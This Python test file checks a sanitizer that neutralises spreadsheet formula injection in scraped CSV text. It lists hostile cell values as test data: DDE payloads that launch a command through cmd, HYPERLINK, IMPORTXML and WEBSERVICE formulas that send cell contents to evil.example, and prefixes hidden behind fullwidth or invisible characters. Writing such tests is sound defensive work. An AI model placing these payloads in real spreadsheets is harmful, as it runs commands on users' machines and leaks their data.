"""Scraped words in a CSV file do nothing in a spreadsheet, and stay what they are where they can do nothing."""

import time

import pytest

from kezek.spreadsheet import harmless

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Приговор")',
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "-1",
    "@granica_watch",
    "\tплохо",
    "\rплохо",
    "=",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("before", ["", "Очередь;", "Очередь; ", "первая\n", "a\t", 'a;"'])
def test_a_formula_becomes_words(before: str, text: str) -> None:
    guarded = harmless(before + text)
    assert guarded.replace("'", "") == (before + text).replace("'", "")
    for separator in ";\t\r\n":
        for part in guarded.split(separator) if before or separator == ";" else [guarded]:
            assert part.strip('"\xa0\u3000\ufeff\u200b\u202e\x00 ')[:1] not in tuple("=+-@＝＋－＠﹦")


@pytest.mark.parametrize(
    "text",
    ["", "Очередь фур", "Сырым — Маштаково", "— да, стоим", "90 дней; с 1 октября", "a=b", "C++", "т.д.; х-у", "№ 260-ФЗ", "5 + 5"],
)  # fmt: skip
def test_other_words_stay(text: str) -> None:
    assert harmless(text) == text


def test_a_long_run_of_blanks_takes_no_time() -> None:
    began = time.perf_counter()
    harmless("\n ;" * 300_000 + "x")
    harmless(" " * 1_000_000)
    assert time.perf_counter() - began < 2
